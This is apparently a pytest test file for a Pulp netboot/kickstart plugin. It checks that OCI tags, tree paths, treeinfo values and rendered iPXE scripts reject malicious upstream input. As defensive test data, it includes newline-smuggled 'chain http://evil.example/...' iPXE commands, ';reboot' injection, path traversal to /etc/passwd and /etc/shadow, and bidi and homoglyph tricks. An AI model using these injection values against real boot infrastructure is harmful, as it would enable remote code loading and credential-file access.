"""Upstream values pass strict grammars where they enter, and renderers check them again."""

import pytest

from pulp_kickstart_oci.app.boot import configs
from pulp_kickstart_oci.app.dnf import treeinfo
from pulp_kickstart_oci.app.dnf.errors import DnfError
from pulp_kickstart_oci.app.netboot import grammar, tags


@pytest.mark.parametrize("tag", ["42", "42-amd64", "9.4-x86_64", "_x", "a" * 128, "f42.beta_1"])
def test_tags_of_the_oci_grammar_match(tag):
    assert grammar.matches(grammar.TAG, tag)


@pytest.mark.parametrize(
    "tag", ["42\n-amd64", "42\n", "", "-42", ".42", "a" * 129, "42 amd64", "42;reboot", "4\u00b2"]
)
def test_tags_outside_the_oci_grammar_do_not(tag):
    assert not grammar.matches(grammar.TAG, tag)


def test_a_tag_with_a_newline_is_never_selected_not_even_by_a_glob():
    upstream = ["42\n-amd64", "42-amd64", "42\nchain http://evil.example/x", "42"]
    assert tags.select(upstream) == ["42-amd64", "42"]
    assert tags.select(upstream, include=["*"]) == ["42-amd64", "42"]
    assert tags.select(upstream, include=["42*"]) == ["42-amd64", "42"]
    assert tags.invalid(upstream) == ["42\n-amd64", "42\nchain http://evil.example/x"]


@pytest.mark.parametrize(
    "path, ok",
    [
        ("images/pxeboot/vmlinuz", True),
        ("EFI/BOOT/shimx64.efi", True),
        (".treeinfo", True),
        ("images/pxeboot/vmlinuz inst.vnc", False),
        ("images/pxeboot/vmlinuz\tx", False),
        ("../vmlinuz", False),
        ("images/../../etc/passwd", False),
        ("/images/vmlinuz", False),
        ("images//vmlinuz", False),
        ("images/${x}", False),
        ("http://evil.example/vmlinuz", False),
        ("a" * 2000, False),
    ],
)
def test_tree_paths(path, ok):
    if ok:
        assert grammar.tree_path(path, "path") == path
    else:
        with pytest.raises(grammar.GrammarError, match="path"):
            grammar.tree_path(path, "path")


_TREEINFO = """[header]
type = productmd.treeinfo
version = 1.2

[release]
name = Fedora
short = Fedora
version = {version}

[tree]
arch = x86_64
build_timestamp = 1
platforms = x86_64
variants = Everything

[variant-Everything]
id = Everything
name = Everything
type = variant
uid = Everything

[images-x86_64]
kernel = {kernel}
initrd = images/pxeboot/initrd.img

[checksums]
images/pxeboot/initrd.img = {checksum}
"""


def _treeinfo(version="42", kernel="images/pxeboot/vmlinuz", checksum="sha256:" + "a" * 64):
    return _TREEINFO.format(version=version, kernel=kernel, checksum=checksum)


def test_a_well_formed_treeinfo_passes():
    facts = treeinfo.parse(_treeinfo(), "tree/.treeinfo")
    assert (facts.version, facts.arch) == ("42", "x86_64")
    assert facts.images["kernel"] == "images/pxeboot/vmlinuz"


def test_a_continuation_line_in_the_release_fails_the_sync_naming_the_key():
    text = _treeinfo(version="42\n  chain http://evil.example/pwn.ipxe")
    with pytest.raises(DnfError, match=r"\[release\] version"):
        treeinfo.parse(text, "tree/.treeinfo")


def test_a_kernel_path_with_arguments_is_refused():
    text = _treeinfo(kernel="images/pxeboot/vmlinuz inst.vnc inst.vncpassword=x")
    with pytest.raises(DnfError, match=r"\[images-x86_64\] kernel"):
        treeinfo.parse(text, "tree/.treeinfo")


def test_a_path_outside_the_tree_is_refused():
    with pytest.raises(DnfError, match="leaves the tree|plain segments"):
        treeinfo.parse(_treeinfo(kernel="../../../etc/shadow"), "tree/.treeinfo")


def test_lenient_reading_is_lenient_about_sections_never_values():
    legacy = "[general]\nfamily = Fedora\nversion = 42\n  boot\narch = x86_64\n"
    with pytest.raises(DnfError, match="version"):
        treeinfo.parse(legacy, "tree/treeinfo")
    ok = "[general]\nfamily = Fedora\nversion = 42\narch = x86_64\n"
    assert treeinfo.parse(ok, "tree/treeinfo").version == "42"


def test_unknown_checksum_types_are_an_error_naming_them():
    with pytest.raises(DnfError, match="'crc32'"):
        treeinfo.parse(_treeinfo(checksum="crc32:abcd"), "tree/.treeinfo")
    facts = treeinfo.parse(_treeinfo(checksum="sha512:" + "b" * 128), "tree/.treeinfo")
    assert facts.checksums["images/pxeboot/initrd.img"][0] == "sha512"


class _Tree:
    def __init__(self, version="42", arch="x86_64", kernel="images/pxeboot/vmlinuz"):
        self.version = version
        self.arch = arch
        self.files = [
            {"role": "kernel", "path": kernel, "sha256": "a" * 64},
            {"role": "initrd", "path": "images/pxeboot/initrd.img", "sha256": "b" * 64},
        ]
        self.source = {}


@pytest.mark.parametrize(
    "tree, url, args, kickstart",
    [
        (_Tree(version="42\nchain http://evil/x"), "http://h/t/", "", ""),
        (_Tree(kernel="images/pxeboot/vmlinuz inst.vnc"), "http://h/t/", "", ""),
        (_Tree(), "http://h/a;reboot;b/", "", ""),
        (_Tree(), "http://h/t/", "quiet\nchain http://evil/x", ""),
        (_Tree(), "http://h/t/", "", "http://ks/${net0/mac}"),
        (_Tree(), "http://h/t/", "console=ttyS0 \u202einst.text", ""),
        (_Tree(), "http://h/t/", "", "http://ks/\u0430.cfg"),
        (_Tree(), "http://h/\u00e9/", "", ""),
    ],
)
def test_renderers_refuse_what_got_past_the_entry_checks(tree, url, args, kickstart):
    with pytest.raises(configs.NotBootable):
        configs.target_for(tree, url, args, kickstart)


def test_a_kernel_command_line_longer_than_linux_keeps_is_refused_naming_its_length():
    """Whatever the parts' own caps, the whole line is measured where it is written."""
    url = "http://h/" + "p" * 1200 + "/42/x86_64/"  # inst.stage2= takes it once
    args = "x" * (configs.MAX_COMMAND_LINE - len(url) - len("initrd=initrd.img inst.stage2= "))
    assert configs.target_for(_Tree(), url, args[:-1], "")
    with pytest.raises(
        configs.NotBootable, match=r"42/x86_64 would be 2049 bytes; Linux keeps 2048"
    ):
        configs.target_for(_Tree(), url, args + "x", "")


def test_renderers_write_plain_values():
    target = configs.target_for(_Tree(), "http://h:1/p/42/x86_64/", "console=ttyS0 quiet", "")
    script = configs.ipxe(target)
    assert "kernel http://h:1/p/42/x86_64/images/pxeboot/vmlinuz initrd=initrd.img" in script
    assert script.count("\n") == 5


def test_treeinfo_rendering_refuses_values_that_would_add_lines():
    from pulp_kickstart_oci.app.boot import treeinfo as rendered

    tree = _Tree()
    tree.source = {"family": "Fedora"}
    assert "version = 42" in rendered.render(tree, 1)
    tree.source = {"family": "Fedora\n[stage2]\nmainimage = ../../evil"}
    with pytest.raises(rendered.UnsafeTree):
        rendered.render(tree, 1)
    with pytest.raises(rendered.UnsafeTree):
        rendered.render(_Tree(kernel="images/pxeboot/vmlinuz\n[x]"), 1)


@pytest.mark.parametrize(
    "release, version, general",
    [
        ("42", "42", "Fedora 42"),
        ("9.4", "9.4", "Fedora 9.4"),
        ("42-beta", "42", "Fedora 42-beta"),
        ("rawhide", "rawhide", "Fedora rawhide"),
        ("43.1-rc_2", "43.1", "Fedora 43.1-rc_2"),
    ],
)
def test_every_accepted_release_renders_a_treeinfo_productmd_loads(release, version, general):
    import productmd.treeinfo

    from pulp_kickstart_oci.app.boot import treeinfo as rendered

    tree = _Tree(version=release)
    tree.source = {"family": "Fedora"}
    text = rendered.render(tree, 1)
    info = productmd.treeinfo.TreeInfo()
    info.loads(text)
    assert info.release.version == version
    assert f"\nname = {general}\n" in text


@pytest.mark.parametrize(
    "release", ["latest", "coreos", "v1", "trees.json", "boot.ipxe", "Latest", "V1", "TREES.JSON"]
)
def test_a_release_never_takes_a_segment_the_served_layout_reserves(release):
    """latest/<arch>/, coreos/<stream>/<arch>/, v1/graph and the root documents would shadow
    the tree, or clash with it in an export (on a case-insensitive filesystem too)."""
    assert not grammar.matches(grammar.RELEASE, release)
    with pytest.raises(grammar.GrammarError, match="not latest, coreos, v1, trees.json"):
        grammar.check(grammar.RELEASE, release, "release")
    assert release not in tags.select([release, f"{release}-amd64"], include=["*"])


@pytest.mark.parametrize("release", ["latest2", "v10", "coreos-41", "v1.0", "42", "trees.json2"])
def test_releases_near_a_reserved_segment_are_releases(release):
    assert grammar.matches(grammar.RELEASE, release)
